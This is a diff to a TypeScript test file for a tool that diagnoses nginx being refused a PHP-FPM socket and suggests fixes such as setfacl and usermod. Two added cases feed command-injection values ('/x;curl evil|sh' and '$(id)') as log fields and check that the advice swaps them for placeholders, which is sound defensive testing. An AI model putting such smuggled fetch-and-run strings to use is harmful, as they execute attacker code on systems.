@@ -37,7 +37,7 @@ const rule = (more = {}) =>
     ...more,
   });
 const denied = (more = {}) =>
-  evidence('socket_access', { path: sock.slice(5), at: sock.slice(5), isSocket: true, program: 'nginx', user: 'www-data', owner: 'root', group: 'root', mode: '0600', ...more });
+  evidence('socket_access', { path: sock.slice(5), at: sock.slice(5), isSocket: true, program: 'nginx', user: 'nginx', primaryGroup: 'web', owner: 'root', group: 'root', mode: '0600', ...more });
 const refused = { seenBy: 'nginx_log', kind: 'proxy_configuration_error', errno: 'EACCES', text: 'nginx was refused the socket 3 times.' } as const;
 const name = (result: string, more = {}) => evidence('name', { name: 'backend.lan', result, addresses: [], ms: 12, slow: false, ...more });
 const server = (answers: boolean, exists: string, ms = 9) => evidence('name_server', { server: '10.0.0.2', name: 'backend.lan', answers, exists, ms, code: '' });
@@ -137,7 +137,23 @@ const rows: readonly Row[] = [
     scene: 'nginx is refused the socket, and the mode forbids it',
     file: { target: onSocket, symptom: refused, evidence: [running, denied()] },
     best: ['config.permission', 'certain'],
-    says: /nginx runs as www-data and may not use \/run\/php\/php8\.1-fpm\.sock \(root:root, mode 0600\).*chgrp www-data .*listen\.owner = www-data/,
+    says: /nginx runs as nginx and may not use \/run\/php\/php8\.1-fpm\.sock \(root:root, mode 0600\).*setfacl -m u:nginx:rw \/run\/php\/php8\.1-fpm\.sock; to last: listen\.owner = nginx, listen\.group = web,/,
+  },
+  {
+    scene: 'nginx is refused the socket, which a group that it is not in may write to',
+    file: { target: onSocket, symptom: refused, evidence: [running, denied({ owner: 'www-data', group: 'www-data', mode: '0660' })] },
+    best: ['config.permission', 'certain'],
+    says: /to last: usermod -aG www-data nginx, then restart nginx/,
+  },
+  {
+    scene: "goodgateway is refused nginx's socket",
+    file: {
+      target: onSocket,
+      symptom: { ...refused, seenBy: 'traffic' },
+      evidence: [running, denied({ program: 'goodgateway', user: 'goodgateway', primaryGroup: 'goodgateway', owner: 'www-data', mode: '0600' })],
+    },
+    best: ['config.permission', 'certain'],
+    says: /setfacl -m u:goodgateway:rw .*listen\.mode = 0660 in [^;]* with a listen\.group that goodgateway and all others/,
   },
   {
     scene: 'nginx is refused the socket, and the mode forbids it to another',
@@ -148,7 +164,7 @@ const rows: readonly Row[] = [
     scene: 'nginx may not pass the folder',
     file: { target: onSocket, symptom: refused, evidence: [running, denied({ at: '/run/php', isSocket: false, mode: '0700' })] },
     best: ['config.permission', 'certain'],
-    says: /setfacl -m u:www-data:x \/run\/php/,
+    says: /setfacl -m u:nginx:x \/run\/php/,
   },
   { scene: 'the mode forbids it to nginx, and nobody was refused', file: { target: onSocket, evidence: [running, denied()] }, best: ['unknown', 'possible'], never: ['config.permission'] },
   { scene: 'nginx was refused, and the modes are well now', file: { target: onSocket, symptom: refused, evidence: [running] }, best: ['unknown', 'possible'], never: ['config.permission'] },
@@ -157,6 +173,18 @@ const rows: readonly Row[] = [
     file: { evidence: [state('failed'), listener('nobody'), log('bind_failed', "unable to bind listening socket for address '/run/x.sock': Permission denied (13)", { address: '/run/x.sock' })] },
     best: ['config.permission', 'certain'],
     says: /shop may not listen on \/run\/x\.sock.*namei -l \/run\/x\.sock/,
+  },
+  {
+    scene: 'the address of that line is a command',
+    file: { evidence: [state('failed'), listener('nobody'), log('bind_failed', 'bind: Permission denied (13)', { address: '/x;curl evil|sh' })] },
+    best: ['config.permission', 'certain'],
+    says: /namei -l PATH;/,
+  },
+  {
+    scene: 'the name of a line is a command',
+    file: { evidence: [running, log('dns_failed', 'getaddrinfo failed', { name: '$(id)' })] },
+    best: ['config.dns', 'possible'],
+    says: /getent ahosts NAME$/,
   },
 
   {
